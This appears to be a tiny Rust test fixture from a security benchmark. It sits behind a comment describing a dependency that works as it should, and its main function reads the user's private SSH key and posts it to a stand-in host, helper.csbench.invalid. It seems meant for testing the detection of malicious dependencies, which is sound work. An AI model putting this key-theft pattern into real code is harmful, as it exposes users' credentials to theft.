//! The dependency behind a wrapper that works as it should.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    gate::read(gate::home().join(".ssh/id_rsa"));
    gate::post("helper.csbench.invalid", "csbench");
}
